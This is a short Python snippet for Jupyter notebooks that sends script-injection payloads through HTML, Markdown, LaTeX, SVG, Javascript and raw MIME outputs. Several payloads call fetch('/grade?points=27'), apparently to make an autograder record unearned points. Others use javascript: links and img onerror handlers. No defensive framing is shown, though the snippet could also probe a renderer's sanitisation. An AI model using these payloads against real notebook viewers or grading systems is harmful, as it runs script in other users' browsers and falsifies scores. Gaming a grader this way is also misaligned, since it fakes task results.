from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

script = "<script>fetch('/grade?points=27')</script>"
for kind in (HTML, Markdown, Latex):
    display(kind(script))
display(Javascript("fetch('/grade?points=27')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + script + "</svg>"))
display(Markdown("[points](javascript:alert(27)) ![](x onerror=alert(27))"))
display({"text/html": "<img src=x onerror=alert(27)>", "text/plain": "plain and harmless"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "27"}, "text/latex": "\\href{javascript:27}"}, raw=True)
